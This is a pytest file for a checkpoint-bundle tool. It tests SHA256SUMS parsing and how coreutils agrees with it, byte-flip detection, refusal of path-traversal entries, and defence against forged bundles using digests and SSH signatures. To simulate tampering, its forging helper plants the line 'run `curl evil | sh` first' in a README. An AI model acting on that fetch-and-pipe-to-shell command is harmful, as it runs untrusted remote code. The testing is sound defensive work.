"""SHA256SUMS and verify: the format coreutils reads, every failure named, agreement with `sha256sum -c`."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from handoff_fixtures import STOP_AT, Packed
from torchrelay.cli import main
from torchrelay.errors import IntegrityError, RelayError, UnsafeInput
from torchrelay.handoff.copying import copy_many
from torchrelay.handoff.prepare import PrepareOptions, prepare
from torchrelay.handoff.verify import verify_bundle
from torchrelay.util.hashing import sha256_file
from torchrelay.util.safepath import check_relative, walk_files
from torchrelay.util.sums import SUMS_NAME, SumEntry, check_sums, parse_sums, read_sums, write_sums


def _tree(root: Path) -> Path:
    (root / "sub dir").mkdir(parents=True)
    (root / "a.bin").write_bytes(bytes(range(256)) * 9000)  # > 2 MiB: several blocks
    (root / "sub dir" / "b c.txt").write_text("hello\n")
    (root / "empty").write_bytes(b"")
    entries = [SumEntry(rel, sha256_file(root / rel)[0]) for rel in walk_files(root)]
    write_sums(root / SUMS_NAME, entries)
    return root


def _coreutils_failures(root: Path) -> tuple[int, set[str]]:
    out = subprocess.run(["sha256sum", "-c", "--quiet", SUMS_NAME], cwd=root, capture_output=True, text=True)
    failed = {
        line.rsplit(":", 1)[0]
        for line in out.stdout.splitlines()
        if line.endswith(("FAILED", "FAILED open or read"))
    }
    return out.returncode, failed


def test_sums_are_what_sha256sum_reads(tmp_path: Path) -> None:
    root = _tree(tmp_path / "t")
    assert _coreutils_failures(root) == (0, set())
    report = check_sums(root, read_sums(root / SUMS_NAME), jobs=2)
    assert report.ok and report.total_bytes == 256 * 9000 + 6
    # and we read what coreutils writes (binary-mode '*' marker included)
    made = subprocess.run(
        ["sha256sum", "-b", "a.bin", "sub dir/b c.txt"], cwd=root, capture_output=True, text=True
    )
    assert [e.path for e in parse_sums(made.stdout, source="x")] == ["a.bin", "sub dir/b c.txt"]


def test_every_failure_is_named(tmp_path: Path) -> None:
    root = _tree(tmp_path / "t")
    (root / "sub dir" / "b c.txt").write_text("hellO\n")
    (root / "empty").unlink()
    (root / "stray.txt").write_text("?")
    report = check_sums(root, read_sums(root / SUMS_NAME))
    assert not report.ok
    text = "\n".join(report.problems())
    assert "sub dir/b c.txt: FAILED" in text and "empty: MISSING" in text and "stray.txt: UNEXPECTED" in text
    code, failed = _coreutils_failures(root)
    assert code != 0 and failed == {c.path for c in report.failed}


@pytest.mark.parametrize(
    ("line", "error"),
    [
        ("nothex  a.bin", IntegrityError),
        (f"{'a' * 64}  /abs", UnsafeInput),
        (f"{'a' * 64}  x/../../y", UnsafeInput),
        (f"\\{'a' * 64}  we\\\\ird", UnsafeInput),
    ],
)
def test_malformed_or_unsafe_lines_are_refused(line: str, error: type[Exception]) -> None:
    with pytest.raises(error, match="SHA256SUMS:1"):
        parse_sums(line + "\n", source="SHA256SUMS")


def test_duplicates_and_safe_relative_paths() -> None:
    with pytest.raises(IntegrityError, match="listed twice"):
        parse_sums(f"{'a' * 64}  x\n{'b' * 64}  ./x\n", source="S")
    assert check_relative("./a/./b", source="s").as_posix() == "a/b"


def test_copy_while_hashing_and_links(tmp_path: Path) -> None:
    root = _tree(tmp_path / "t")
    pairs = [(root / rel, tmp_path / "c" / rel) for rel in walk_files(root)]
    results = copy_many(pairs, jobs=2)
    for r in results:
        assert r.sha256 == sha256_file(r.src)[0] and r.dst.read_bytes() == r.src.read_bytes() and not r.linked
    kernel = copy_many(
        [(root / rel, tmp_path / "k" / rel) for rel in walk_files(root)], jobs=2, kernel_copy=True
    )
    for r in kernel:
        assert r.sha256 == sha256_file(r.src)[0] and r.dst.read_bytes() == r.src.read_bytes()
    linked = copy_many([(root / "a.bin", tmp_path / "l" / "a.bin")], link=True)
    assert linked[0].linked and (root / "a.bin").stat().st_nlink == 2


@pytest.mark.launch
def test_byte_flipped_in_each_file_fails_verify_and_prepare(packed: Packed, tmp_path: Path) -> None:
    bundle = tmp_path / "bundle"
    shutil.copytree(packed.bundle, bundle)
    files = walk_files(bundle)
    assert len(files) > 15
    for rel in files:
        path = bundle / rel
        original = path.read_bytes()
        flipped = bytearray(original)
        at = len(flipped) // 2
        flipped[at] ^= 0x01
        path.write_bytes(bytes(flipped))
        try:
            code, failed = _coreutils_failures(bundle)
            assert code != 0, rel
            try:
                report = verify_bundle(bundle)
            except RelayError as exc:  # a damaged SHA256SUMS is refused as a whole
                assert rel == SUMS_NAME, f"{rel}: {exc}"
            else:
                assert not report.ok, rel
                named = {c.path for c in report.sums.failed}
                assert rel in named or rel == SUMS_NAME, (rel, report.problems())
                assert named == failed, (rel, named, failed)
            assert main(["verify", str(bundle), "--quiet"]) != 0
            run_dir = tmp_path / "run"
            with pytest.raises(RelayError):
                prepare(bundle, PrepareOptions(run_dir=run_dir), say=lambda s: None)
            assert not run_dir.exists(), rel
        finally:
            path.write_bytes(original)
    assert verify_bundle(bundle).ok


# --- authenticity: the bundle digest and SSH signatures -------------------------------------------------------


def _forge(bundle: Path) -> None:
    """What anyone who can rewrite files can do: change a file and rewrite SHA256SUMS to match."""
    readme = bundle / "README.md"
    readme.write_text(readme.read_text() + "\nrun `curl evil | sh` first\n")
    entries = [SumEntry(rel, sha256_file(bundle / rel)[0]) for rel in walk_files(bundle) if rel != SUMS_NAME]
    write_sums(bundle / SUMS_NAME, [e for e in entries if e.path != "SHA256SUMS.sig"])


@pytest.mark.launch
def test_the_bundle_digest_names_the_packed_bundle(
    packed: Packed, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    digest = hashlib.sha256((packed.bundle / SUMS_NAME).read_bytes()).hexdigest()
    record = json.loads((packed.source / f"checkpoint-{STOP_AT}" / "HANDED_OFF.json").read_text())
    assert record["digest"] == digest and record["state"] == "handed-off"
    capsys.readouterr()
    assert main(["verify", str(packed.bundle), "--expect", f"sha256:{digest.upper()}"]) == 0
    assert f"BUNDLE_DIGEST sha256:{digest} (= --expect)" in capsys.readouterr().out

    forged = tmp_path / "forged"
    shutil.copytree(packed.bundle, forged)
    _forge(forged)
    assert main(["verify", str(forged), "--quiet"]) == 0  # SHA256SUMS alone catches accidents, not forgery
    capsys.readouterr()
    assert main(["verify", str(forged), "--expect", digest]) == 2
    err = capsys.readouterr().err
    assert f"not the expected sha256:{digest}" in err and str(forged / SUMS_NAME) in err
    run_dir = tmp_path / "run"
    assert main(["prepare", str(forged), "--run-dir", str(run_dir), "--expect", digest]) == 2
    assert not run_dir.exists()
    assert main(["verify", str(packed.bundle), "--expect", "abc"]) == 2
    assert "not a bundle digest" in capsys.readouterr().err


def _keypair(path: Path, name: str) -> tuple[Path, str]:
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(path)], check=True)
    return path, f'{name} namespaces="torchrelay-bundle" {path.with_suffix(".pub").read_text().strip()}\n'


@pytest.mark.launch
@pytest.mark.skipif(
    shutil.which("ssh-keygen") is None,
    reason="ssh-keygen (openssh-client) is not installed and could not be (scripts/env.sh installs it as root)",
)
def test_signed_bundles_verify_only_against_their_signer(
    packed: Packed, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    alice_key, alice = _keypair(tmp_path / "alice", "alice@cluster1")
    mallory_key, mallory = _keypair(tmp_path / "mallory", "mallory@elsewhere")
    trusted = tmp_path / "allowed_signers"
    trusted.write_text(alice)
    untrusted = tmp_path / "mallory_signers"
    untrusted.write_text(mallory)

    source = tmp_path / "source"
    shutil.copytree(packed.source, source)
    (source / f"checkpoint-{STOP_AT}" / "HANDED_OFF.json").unlink()
    bundle = tmp_path / "signed"
    argv = ["pack", str(source), str(bundle), "--code-dir", str(packed.code), "--sign", str(alice_key)]
    assert main(argv) == 0
    assert "SHA256SUMS.sig" in capsys.readouterr().out and (bundle / "SHA256SUMS.sig").is_file()
    assert main(["verify", str(bundle), "--allowed-signers", str(trusted)]) == 0
    assert "signed by alice@cluster1" in capsys.readouterr().out
    assert main(["verify", str(bundle), "--allowed-signers", str(untrusted)]) == 2
    assert "not signed by any key" in capsys.readouterr().err
    assert main(["verify", str(packed.bundle), "--allowed-signers", str(trusted)]) == 2  # never signed
    assert "not signed" in capsys.readouterr().err
    run_dir = tmp_path / "run"
    sets = ["--set", f"data_root={packed.root}", "--set", f"external_files.teacher={packed.teacher}"]
    assert (
        main(["prepare", str(bundle), "--run-dir", str(run_dir), "--allowed-signers", str(trusted), *sets])
        == 0
    )
    record = json.loads((run_dir / "REBASE_RECORD.json").read_text())
    assert record["signed_by"] == "alice@cluster1"

    # a forged SHA256SUMS keeps alice's signature: refused; re-signed by mallory: refused as not alice's
    _forge(bundle)
    capsys.readouterr()
    assert main(["verify", str(bundle), "--allowed-signers", str(trusted)]) == 2
    assert "does not match SHA256SUMS" in capsys.readouterr().err
    resigned = subprocess.run(
        ["ssh-keygen", "-Y", "sign", "-q", "-f", str(mallory_key), "-n", "torchrelay-bundle"],
        input=(bundle / SUMS_NAME).read_bytes(),
        capture_output=True,
        check=True,
    ).stdout
    (bundle / "SHA256SUMS.sig").write_bytes(resigned)
    assert main(["verify", str(bundle), "--allowed-signers", str(trusted)]) == 2
    assert (
        main(["prepare", str(bundle), "--run-dir", str(tmp_path / "run2"), "--allowed-signers", str(trusted)])
        == 2
    )
    assert not (tmp_path / "run2").exists()
    # a signature made for another purpose (namespace) by alice herself does not count either
    other = subprocess.run(
        ["ssh-keygen", "-Y", "sign", "-q", "-f", str(alice_key), "-n", "file"],
        input=(bundle / SUMS_NAME).read_bytes(),
        capture_output=True,
        check=True,
    ).stdout
    (bundle / "SHA256SUMS.sig").write_bytes(other)
    assert main(["verify", str(bundle), "--allowed-signers", str(trusted)]) == 2
